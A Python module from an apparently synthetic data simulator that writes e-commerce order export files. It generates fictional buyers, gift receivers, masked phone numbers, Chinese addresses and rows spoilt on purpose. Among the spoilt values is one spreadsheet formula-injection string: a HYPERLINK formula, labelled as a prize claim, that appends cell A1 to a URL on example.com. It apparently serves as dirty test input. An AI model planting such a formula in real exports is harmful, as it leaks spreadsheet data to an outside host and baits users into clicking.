"""What every writer of export files needs: the made-up world, receivers, dirt, and rows from named cells."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from functools import cached_property
from pathlib import Path
from typing import Final

import numpy as np
import pyarrow as pa

from yutang.simulator.behaviour import Lives
from yutang.simulator.catalogue import Catalogue
from yutang.simulator.chain import Chain
from yutang.simulator.chance import Dice, Ints, Mask
from yutang.simulator.names import GIVEN_NAMES, SURNAMES
from yutang.simulator.orders import DAY, NONE, OrderBook, Orders
from yutang.simulator.people import NICKNAMES, PLACES, ROADS, People
from yutang.simulator.plan import Plan
from yutang.simulator.scribe import PLAIN, Form, Piece, Scribe, Sheet
from yutang.simulator.workbook import Workbook

#: A formula that a spreadsheet would run, inside a quoted cell (its quotes are doubled).
FORMULA: Final = '=HYPERLINK(""http://example.com/?""&A1,""领奖"")'
BAD_PHONES: Final = ("12345", "00000000000", "无", "1455012", "13800")
#: People send gifts within groups of this many.
_NEIGHBOURS: Final = 4096
_TITLES: Final = ("女士", "先生", "小姐", "老师")
_PROVINCES: Final = tuple(place[0] for place in PLACES)
_CITIES: Final = tuple(place[1] for place in PLACES)
_DISTRICTS: Final = tuple(place[2] for place in PLACES)


@dataclass(frozen=True)
class Desk:
    """The world that the files tell of."""

    plan: Plan
    dice: Dice
    people: People
    chain: Chain
    catalogue: Catalogue
    book: OrderBook
    folder: Path

    @cached_property
    def staff_names(self) -> tuple[str, ...]:
        """Names of the staff, in the order of the chain."""
        return tuple(member.display_name for member in self.chain.staff)

    @cached_property
    def guide_positions(self) -> Ints:
        """Position among the staff of the nth guide of each store. Shape ``(stores, 4)``."""
        position = {member: n for n, member in enumerate(self.chain.staff)}
        stores = range(len(self.chain.stores))
        return np.array([[position[guide] for guide in self.chain.guides(store)] for store in stores], dtype=np.int64)


@dataclass(frozen=True)
class Dirt:
    """Which rows are spoilt on purpose, each in one way. Masks of shape ``(n,)``."""

    bad_id: Mask
    no_date: Mask
    formula: Mask
    bad_phone: Mask


@dataclass(frozen=True)
class Lines:
    """Lines of orders: `order` is the position of their order. Arrays of shape ``(lines,)``, money in fen."""

    order: Ints
    nth: Ints
    product: Ints
    quantity: Ints
    unit_price: Ints
    paid: Ints


class Writer:
    """Writes orders of one platform; a subclass says how a row looks."""

    platform: str
    encoding: str
    #: Name of the format in a summary.
    format: str

    def __init__(self, desk: Desk) -> None:
        self.desk = desk
        self.scribe = Scribe(self.encoding, first_date=desk.plan.from_date)
        self.orders = 0
        self.sheets: list[Sheet | Workbook] = []

    def write(self, orders: Orders) -> pa.Array:
        """Append the orders and return their numbers as the platform gives them, as strings."""
        raise NotImplementedError

    def tell(self, lives: Lives, orders: Orders) -> None:
        """Take note of a block of people and their orders, before any order is written; most platforms do not."""

    def close(self) -> None:
        """Close the files."""
        for sheet in self.sheets:
            sheet.close()

    def sheet(self, name: str, header: str, *, encoding: str | None = None) -> Sheet:
        """Open a file in the folder of this writer, in its encoding or another."""
        path = self.desk.folder / self.platform / name
        sheet = Sheet(path, encoding=encoding or self.encoding, header=header)
        self.sheets.append(sheet)
        return sheet

    def workbook(self, name: str, header: str) -> Workbook:
        """Open an xlsx file in the folder of this writer."""
        workbook = Workbook(self.desk.folder / self.platform / name, header=header)
        self.sheets.append(workbook)
        return workbook

    def utf8(self) -> Scribe:
        """Return the scribe of the rows of a file whose first bytes are a mark of UTF-8."""
        return Scribe("utf-8", first_date=self.desk.plan.from_date)

    def running(self, orders: Orders) -> Ints:
        """Return a number per order that no earlier order has."""
        numbers = np.arange(self.orders, self.orders + len(orders), dtype=np.int64)
        self.orders += len(orders)
        return numbers

    def row(
        self, header: str, cells: Mapping[str, Piece], *, form: Form = PLAIN, raw: frozenset[str] = frozenset()
    ) -> pa.Array:
        """Return rows from cells by header name; a name without a cell is empty. Names in `raw` bring their own quotes."""
        pieces: list[Piece] = []
        constant = form.start
        for position, name in enumerate(header.split(",")):
            opening, closing = ("", "") if name in raw else (form.opening, form.closing)
            constant += (form.between if position else "") + opening
            cell = cells.get(name, "")
            if isinstance(cell, str):
                constant += cell + closing
            else:
                pieces += [constant, cell] if constant else [cell]
                constant = closing
        return self.scribe.join(*pieces, constant + form.end)

    # Pieces that several platforms show.

    def dirt(self, orders: Orders) -> Dirt:
        """Return which rows are spoilt."""
        throw = self.desk.dice.uniform("dirt", orders["key"]) / max(self.desk.plan.untidiness.dirty, 1e-12) * 4
        return Dirt(*(np.asarray((throw >= kind) & (throw < kind + 1)) for kind in range(4)))

    def lines(self, orders: Orders) -> Lines:
        """Return the lines of the orders, in order; what was paid is shared out to the fen."""
        there = orders["product"] != NONE
        order, nth = np.nonzero(there)
        prices = self.desk.book.line_prices(orders)
        worth = prices * orders["quantity"]
        due = orders["goods"].astype(np.int64) - orders["discount"]
        shared = worth * due[:, None] // np.maximum(orders["goods"].astype(np.int64), 1)[:, None]
        shared[:, 0] += due - shared.sum(axis=1)
        return Lines(
            order=order.astype(np.int64),
            nth=nth.astype(np.int64),
            product=orders["product"][there].astype(np.int64),
            quantity=orders["quantity"][there].astype(np.int64),
            unit_price=prices[there],
            paid=shared[there],
        )

    def spec(self, orders: Orders, nth: Ints) -> Ints:
        """Return an index into the specs of the catalogue for the nth line of each order."""
        return self.desk.dice.whole("spec", orders["key"] * 4 + nth, len(self.desk.catalogue.specs))

    def receiver(self, orders: Orders) -> Ints:
        """Return the person who gets the goods: a gift goes to somebody else, who may or may not be a customer."""
        dice, untidiness = self.desk.dice, self.desk.plan.untidiness
        buyer = orders["person"].astype(np.int64)
        given = dice.happens("gift", orders["key"], untidiness.gift)
        usual = dice.happens("gift to the usual friend", orders["key"], untidiness.gift_habit)
        friend = buyer // _NEIGHBOURS * _NEIGHBOURS + np.where(
            usual, dice.whole("usual friend", buyer, _NEIGHBOURS), dice.whole("gift for", orders["key"], _NEIGHBOURS)
        )
        return np.where(given & (friend != buyer), friend, buyer)

    def name(self, ids: Ints) -> pa.Array:
        """Return full names."""
        return full_name(self.scribe, self.desk.people, ids)

    def receiver_name(self, ids: Ints, orders: Orders) -> pa.Array:
        """Return names as typed into an address: now and then 陈女士."""
        short = self.desk.dice.happens("title name", orders["key"], self.desk.plan.untidiness.title_name)
        title = np.where(self.desk.people.female(ids), 0, 1)
        polite = self.scribe.join(
            self.scribe.words(SURNAMES, self.desk.people.surname(ids)), self.scribe.words(_TITLES, title)
        )
        return self.scribe.either(short, polite, self.name(ids))

    def phone(self, ids: Ints, orders: Orders) -> Ints:
        """Return the number in use on the day of the order."""
        return self.desk.people.phone(ids, orders["second"] // DAY)

    def masked(self, phones: Ints, *, first: int = 3, stars: str = "****", last: int = 4) -> pa.Array:
        """Return numbers with the middle hidden, as 145****0042."""
        head, tail = phones // 10 ** (11 - first), phones % 10**last
        return self.scribe.join(self.scribe.number(head), stars, self.scribe.padded(tail, last))

    def shown_phone(self, phones: Ints, orders: Orders, dirt: Dirt) -> pa.Array:
        """Return numbers as the platform shows them: mostly clear, some masked, a few spoilt."""
        hidden = self.desk.dice.happens("masked", orders["key"], self.desk.plan.untidiness.masked_phone)
        shown = self.scribe.either(hidden, self.masked(phones), self.scribe.number(phones))
        if not dirt.bad_phone.any():
            return shown
        bad = self.scribe.words(BAD_PHONES, self.desk.dice.whole("bad phone", orders["key"], len(BAD_PHONES)))
        return self.scribe.either(dirt.bad_phone, bad, shown)

    def nickname(self, orders: Orders) -> pa.Array:
        """Return the nickname of the account that bought."""
        ids = orders["person"].astype(np.int64)
        number = self.desk.people.account(ids, orders["key"])
        return self.scribe.join(
            self.scribe.words(NICKNAMES, self.desk.people.nickname_stem(ids)), self.scribe.number(number)
        )

    def guide_name(self, stores: Ints, guides: Ints) -> pa.Array:
        """Return the name of the nth guide of each store."""
        return self.scribe.words(self.desk.staff_names, self.desk.guide_positions[stores, guides])

    def place(self, ids: Ints) -> tuple[pa.Array, pa.Array, pa.Array, pa.Array]:
        """Return province, city, district and street with house number."""
        place = self.desk.people.place(ids)
        dice, scribe = self.desk.dice, self.scribe
        street = scribe.join(
            scribe.words(ROADS, dice.whole("road", ids, len(ROADS))),
            scribe.number(1 + dice.whole("house", ids, 299)),
            "号",
            scribe.number(1 + dice.whole("building", ids, 30)),
            "幢",
            scribe.number(101 + dice.whole("room", ids, 2200)),
            "室",
        )
        return scribe.words(_PROVINCES, place), scribe.words(_CITIES, place), scribe.words(_DISTRICTS, place), street


def full_name(scribe: Scribe, people: People, ids: Ints) -> pa.Array:
    """Return surname and given name in the encoding of the scribe."""
    return scribe.join(scribe.words(SURNAMES, people.surname(ids)), scribe.words(GIVEN_NAMES, people.given_name(ids)))
